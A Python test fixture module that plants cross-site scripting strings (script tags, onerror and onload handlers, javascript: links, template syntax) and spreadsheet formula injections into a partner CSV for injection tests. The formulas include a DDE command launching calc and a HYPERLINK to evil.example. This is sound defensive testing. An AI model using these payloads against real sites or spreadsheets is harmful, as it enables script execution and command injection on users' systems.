"""Attack strings for every free-text field of a partner, shared by the injection tests (pages and files).

``p-000010`` (Kita in Beuren, Sozialraum Hermeskeil) gets an HTML/JavaScript/Markdown/template payload in
every text field, each naming its field; ``p-000050`` (Kita in Longuich) gets a spreadsheet formula in
every text field. Both keep their category, offers and coordinates, so every page finds and shows them;
both names contain "alert" (the browser tests search for it).
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from graph.core.tables import spec
from graph.io.tabular import FORMULA_PREFIXES
from graph.store import codecs

#: Every free-text column of partners.csv (codes, dates, coordinates and ids are validated formats).
TEXT_FIELDS = ("name", "traeger", "strasse", "plz", "ort", "telefon", "email", "website", "ansprechperson",
               "oeffnungszeiten", "notizen", "geaendert_von")
HTML_PARTNER, FORMULA_PARTNER = "p-000010", "p-000050"


def html_payload(field: str) -> str:
    """Markup, script, handler, Markdown link and template syntax – inert only if shown as text."""
    return (f"\"'><img src=x onerror=alert('{field}')><script>window.__xss='{field}'</script>"
            f"<svg onload=window.__xss=1>[{field}](javascript:window.__xss=1) {{{{7*7}}}} ${{7*7}} <b>{field}</b>")


FORMULAS = {"name": '=HYPERLINK("https://evil.example/?q=alert";"Klick")', "traeger": "=1+1",
            "strasse": "+1+1 Trierer Straße", "plz": "-54340", "ort": "@SUMME(A1:A2)", "telefon": "=2+3",
            "email": "=cmd|' /C calc'!A0", "website": "-2+3", "ansprechperson": "@Peter Kohl",
            "oeffnungszeiten": "\t=1+1 Mo–Fr", "notizen": "\r=1+1", "geaendert_von": " =1+1"}
XSS_ROWS = {HTML_PARTNER: {f: html_payload(f) for f in TEXT_FIELDS}, FORMULA_PARTNER: FORMULAS}
#: What a page shows when a payload ran (checked in every frame).
RAN_JS = "() => window.__xss !== undefined || document.querySelector('img[src=\"x\"], svg[onload]') !== null"


class RawCsv:
    """A CSV file of a data copy edited by hand, bypassing the store (tests only)."""

    def __init__(self, path: Path) -> None:
        self.path = Path(path)

    def read(self) -> pd.DataFrame:
        """All cells as text (an empty frame with no columns if the file is missing)."""
        if not self.path.exists():
            return pd.DataFrame()
        return pd.read_csv(self.path, dtype=str, keep_default_na=False)

    def write(self, frame: pd.DataFrame) -> None:
        """Replace the file."""
        frame.to_csv(self.path, index=False)


def write_payloads(data_dir: Path, rows: dict[str, dict[str, str]] = XSS_ROWS) -> None:
    """Put the payloads into partners.csv of a data copy (no validation, as a hand edit would)."""
    path = Path(data_dir) / "partners.csv"
    frame = codecs.decode(spec("partners"), path.read_bytes())
    for pid, values in rows.items():
        for col, value in values.items():
            frame.loc[frame["id"] == pid, col] = value
    path.write_bytes(codecs.encode(spec("partners"), frame))


def formula_cells(cells) -> list[str]:
    """Cells a spreadsheet would evaluate (neutralised ones start with ``'``)."""
    return [c for c in cells if isinstance(c, str) and c.lstrip(" ").startswith(FORMULA_PREFIXES)]
